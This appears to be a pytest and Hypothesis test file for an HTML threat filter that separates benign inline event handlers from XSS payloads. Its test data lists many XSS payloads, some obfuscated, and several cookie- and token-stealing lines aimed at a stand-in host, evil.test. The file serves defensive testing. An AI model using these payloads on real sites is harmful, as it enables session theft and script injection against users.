"""Handlers that call the page's own code and idle links, read apart from payloads (`handlers`)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from filters import Action
from filters.threat import ThreatFilter, ThreatOptions
from filters.threat.handlers import SINKS, own_code, read

FILTERS = {sink: ThreatFilter(ThreatOptions(sink=sink)) for sink in ("bot", "plain")}


@pytest.mark.parametrize("value", [
    "save()", "return validate(this)", "this.form.submit()", "this.src='fallback.png'",
    "this.onerror=null;this.src='img/none.png'", "menu.toggle('main', 2)", "void(0)", "return false",
    "show(event); return false", "$.fn.toggle(this)",
])
def test_own_code(value: str) -> None:
    assert own_code(value)


@pytest.mark.parametrize("value", [
    "alert(1)", "init();alert(1)", "this.src='//evil.test/?'+document.cookie", "location='//evil.test'",
    "window.open('//evil.test')", "eval(atob('ywxlcnqoms='))", "fetch('//evil.test/'+localstorage.token)",
    "[1].map(alert)", "top['al'+'ert'](1)", "import('//evil.test/x.js')", "go('javascript:alert(1)')",
    "x=alert;x(1)", "settimeout(go, 1)", "this.innerhtml='<img src=x>'", "f(alert)", "&#97;lert(1)",
    "document.getelementbyid('x').click()", "a(b(c()))", "this.href='javascript:go()'", "x" * 300,
])
def test_payloads_are_not_own_code(value: str) -> None:
    assert not own_code(value)


def test_read_blanks_only_what_it_understands() -> None:
    text = '<a href="javascript:void(0)" onclick="toggle()" onmouseover="alert(1)">x</a>'
    blanked = read(text)
    assert blanked is not None and len(blanked) == len(text)
    assert "toggle" not in blanked and "javascript" not in blanked and 'onmouseover="alert(1)"' in blanked
    assert read('<img src=x onerror="alert(1)">') is None
    assert read("no markup here") is None


@pytest.mark.parametrize("sink", ["bot", "plain"])
@pytest.mark.parametrize("text", [
    '<button onclick="save()">Save</button>',
    '<img src="cat.png" alt="A cat" onerror="this.src=\'fallback.png\'">',
    '<a href="javascript:void(0)" onclick="toggle()">menu</a>',
    '<select name="sort" onchange="this.form.submit()"><option>new</option></select>',
    '<svg width="100" height="100"><circle cx="50" cy="50" r="40" onload="init()"/></svg>',
])
def test_page_markup_is_not_blocked(sink: str, text: str) -> None:
    assert FILTERS[sink].decide(text).action is not Action.BLOCK


@pytest.mark.parametrize("sink", ["bot", "plain"])
@pytest.mark.parametrize("text", [
    "<img src=x onerror=alert(1)>", '<img src=x onerror="alert(1)">', '<svg onload="init();alert(1)">',
    '<img src=x onerror="this.src=\'//evil.test/?\'+document.cookie">',
    '<a href="javascript:alert(1)" onclick="toggle()">x</a>',
    '<a href="javascript:void(0)" onclick="location=\'//evil.test\'">x</a>',
    '<img src="x" onerror="x()" onerror=alert(1)>', '<div onmouseover="window.open(\'//evil.test\')">hi</div>',
    '<img src=x onerror="eval(atob(\'YWxlcnQoMSk=\'))">', '<img src=x onerror="&#97;lert(1)">',
    '<img src=x onerror="top[\'al\'+\'ert\'](1)">', '<body onload="go(\'javascript:alert(1)\')">',
    '<a href="javascript:void(0);alert(1)">x</a>', "<a href=\"javascript:void(0)\" onclick='alert`1`'>x</a>",
])
def test_payload_markup_stays_blocked(sink: str, text: str) -> None:
    assert FILTERS[sink].decide(text).action is Action.BLOCK


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(SINKS)), st.sampled_from(["img src=x", "svg", "body", "a href=#", "div"]),
       st.sampled_from(["onerror", "onload", "onclick", "onmouseover", "onfocus"]),
       st.sampled_from(["{}(1)", "x.{}(1)", "init();{}(1)", "this.{}='x'", "go({})", "return {}(1)"]))
def test_a_payload_name_keeps_the_handler(sink_name: str, tag: str, event: str, shape: str) -> None:
    """Whatever shape a handler takes, naming something a payload reaches for keeps it out of the reading."""
    value = shape.format(sink_name)
    assert not own_code(value)
    text = f'<{tag} {event}="{value}">'
    assert read(text) is None or f'{event}="{value}"' in read(text)  # type: ignore[operator]
